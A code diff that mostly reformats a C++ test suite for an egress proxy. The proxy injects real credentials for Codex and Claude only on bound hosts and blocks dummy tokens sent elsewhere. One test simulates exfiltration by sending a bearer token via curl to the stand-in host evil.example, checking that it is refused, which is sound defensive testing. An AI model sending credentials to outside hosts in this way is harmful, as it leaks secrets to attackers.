@@ -21,16 +21,16 @@
 #include <fstream>
 #include <functional>
 #include <optional>
-#include <stdexcept>
 #include <sstream>
+#include <stdexcept>
 #include <string>
 #include <thread>
 #include <vector>
 
 #include "../unit/temp_dir.hpp"
 #include "bottle/core/base64url.hpp"
-#include "bottle/egress/egress_config.hpp"
 #include "bottle/core/subprocess.hpp"
+#include "bottle/egress/egress_config.hpp"
 #include "net_harness.hpp"
 #include "test_paths.hpp"
 
@@ -40,7 +40,6 @@ using namespace std::chrono_literals;
 namespace {
 
 using namespace net_harness;
-
 
 const std::string codex_dummy = "dummy-codex-access-0001";
 const std::string claude_dummy = "dummy-claude-key-0002";
@@ -91,9 +90,13 @@ class Egress {
   std::uint16_t port() const { return port_; }
 
   Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
-    std::vector<std::string> argv = {"curl", "-sS", "--max-time", "20", "--noproxy", "",
-                                     "--proxy", "http://127.0.0.1:" + std::to_string(port_),
-                                     "--cacert", ca().string(), "-w", "\n%{http_code}", url};
+    std::vector<std::string> argv = {"curl",       "-sS",
+                                     "--max-time", "20",
+                                     "--noproxy",  "",
+                                     "--proxy",    "http://127.0.0.1:" + std::to_string(port_),
+                                     "--cacert",   ca().string(),
+                                     "-w",         "\n%{http_code}",
+                                     url};
     argv.insert(argv.end(), extra.begin(), extra.end());
     const auto r = run(argv);
     INFO("curl stderr: " << r.err);
@@ -147,8 +150,12 @@ class Egress {
 
 bottle::EgressRoute route(std::string name, std::string host, std::string header, std::string dummy,
                           const fs::path& file, std::string pointer = "") {
-  return {.name = std::move(name), .hosts = {std::move(host)}, .header = std::move(header),
-          .dummy = std::move(dummy), .value_file = file.string(), .value_json_pointer = std::move(pointer)};
+  return {.name = std::move(name),
+          .hosts = {std::move(host)},
+          .header = std::move(header),
+          .dummy = std::move(dummy),
+          .value_file = file.string(),
+          .value_json_pointer = std::move(pointer)};
 }
 
 }  // namespace
@@ -204,9 +211,8 @@ TEST_CASE("egress addon: real credentials on bound hosts only, fresh from the ho
   CHECK_FALSE(egress.upstream_header("/x", "Authorization"));
 
   // The WebSocket upgrade request (how Codex streams turns) gets the swap too.
-  const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()),
-                       egress.ca().string(), "chatgpt.com", "/backend-api/codex/responses", "Authorization",
-                       "Bearer " + codex_dummy});
+  const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()), egress.ca().string(),
+                       "chatgpt.com", "/backend-api/codex/responses", "Authorization", "Bearer " + codex_dummy});
   INFO("ws client stderr: " << ws.err);
   CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nhello\n");
   CHECK(egress.upstream_header("/backend-api/codex/responses", "Authorization") == "Bearer real-codex-two");
@@ -216,7 +222,9 @@ TEST_CASE("egress addon: real credentials on bound hosts only, fresh from the ho
   for (const auto* secret : {"real-codex-one", "real-codex-two", "real-claude-key"}) CHECK_FALSE(contains(log, secret));
   for (const auto& dummy : {codex_dummy, claude_dummy, broken_dummy}) CHECK_FALSE(contains(log, dummy));
   CHECK(contains(log, R"("action": "403", "event": "blocked", "host": "evil.example")"));
-  CHECK(contains(log, R"("event": "injected", "header": "Authorization", "host": "chatgpt.com", "route": "codex", "websocket": true})"));
+  CHECK(contains(
+      log,
+      R"("event": "injected", "header": "Authorization", "host": "chatgpt.com", "route": "codex", "websocket": true})"));
   CHECK(contains(log, R"("action": "502", "event": "value_unavailable", "host": "broken.example")"));
 }
 
@@ -225,14 +233,14 @@ TEST_CASE("egress addon: a bad routes file stops mitmdump (fail closed)", "[egre
   write_file(dir.path() / "routes.json",
              R"({"version": 1, "routes": [{"name": "x", "hosts": ["a.example"], "header": "A", "dummy": "short",)"
              R"( "value_file": "/nonexistent"}]})");
-  auto argv = bottle::mitmdump_argv({.listen_host = "127.0.0.1",
-                                     .listen_port = free_port(),
-                                     .confdir = (dir.path() / "conf").string(),
-                                     .addon_path = std::string(test_paths::source_dir) +
-                                                   "/libbottle/share/egress/bottle_egress.py",
-                                     .routes_path = (dir.path() / "routes.json").string(),
-                                     .upstream_proxy = std::nullopt,
-                                     .upstream_trusted_ca = std::nullopt});
+  auto argv = bottle::mitmdump_argv(
+      {.listen_host = "127.0.0.1",
+       .listen_port = free_port(),
+       .confdir = (dir.path() / "conf").string(),
+       .addon_path = std::string(test_paths::source_dir) + "/libbottle/share/egress/bottle_egress.py",
+       .routes_path = (dir.path() / "routes.json").string(),
+       .upstream_proxy = std::nullopt,
+       .upstream_trusted_ca = std::nullopt});
   argv.insert(argv.begin(), {"timeout", "60"});
   const auto r = run(argv);
   INFO("stdout: " << r.out << "\nstderr: " << r.err);
@@ -408,15 +416,19 @@ TEST_CASE("egress addon: the reverse swap logs route, place and encoding", "[egr
   write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
   Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")});
   for (const auto* mode : {"header", "json", "base64", "plain"})
-    CHECK(egress.fetch("chatgpt.com", std::string("/reflect/") + mode, "Authorization", "Bearer " + codex_dummy)
-              .status == 200);
+    CHECK(
+        egress.fetch("chatgpt.com", std::string("/reflect/") + mode, "Authorization", "Bearer " + codex_dummy).status ==
+        200);
   const auto log = read_file(egress.egress_log());
   CHECK(contains(log, R"("action": "replaced", "count": 1, "encoding": "raw", "event": "reflected", )"
                       R"("host": "chatgpt.com", "route": "codex", "where": "header X-Echo-Authorization"})"));
-  CHECK(contains(log, R"("encoding": "json", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  CHECK(contains(
+      log, R"("encoding": "json", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
   // Lines that are the same in both alphabets count as base64.
-  CHECK(contains(log, R"("encoding": "base64", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
-  CHECK(contains(log, R"("encoding": "raw", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  CHECK(contains(
+      log, R"("encoding": "base64", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  CHECK(contains(
+      log, R"("encoding": "raw", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
   CHECK_FALSE(contains(log, reflected_real));
   CHECK_FALSE(holds_real(log));
 }
@@ -428,9 +440,9 @@ TEST_CASE("egress addon: every dummy of a bottle is guarded, not only the access
   const std::string id_dummy = "dummy-codex-id-token-0004";
   const std::string refresh_dummy = "bottle-dummy-refresh-0005";
   // Credential forwarding's route: its broker knows the bottle's dummies.
-  Egress egress({route("codex-chatgpt", "chatgpt.com", "Authorization", codex_dummy, codex_file,
-                       "/tokens/access_token")},
-                {id_dummy, codex_dummy, refresh_dummy});
+  Egress egress(
+      {route("codex-chatgpt", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")},
+      {id_dummy, codex_dummy, refresh_dummy});
   const std::string blocked = "blocked by bottle egress: credential for codex-chatgpt sent to evil.example\n";
   const auto refresh_bearer = egress.curl("https://evil.example/rt", {"-H", "Authorization: Bearer " + refresh_dummy});
   CHECK(refresh_bearer.status == 403);
@@ -449,6 +461,8 @@ TEST_CASE("egress addon: every dummy of a bottle is guarded, not only the access
   CHECK(egress.upstream_header("/rt-home", "Authorization") == "Bearer " + refresh_dummy);
 
   const auto log = read_file(egress.egress_log());
-  CHECK(contains(log, R"("action": "403", "event": "blocked", "host": "evil.example", "reason": "dummy sent to unbound host", "route": "codex-chatgpt"})"));
+  CHECK(contains(
+      log,
+      R"("action": "403", "event": "blocked", "host": "evil.example", "reason": "dummy sent to unbound host", "route": "codex-chatgpt"})"));
   for (const auto& d : {id_dummy, refresh_dummy, codex_dummy}) CHECK_FALSE(contains(log, d));
 }
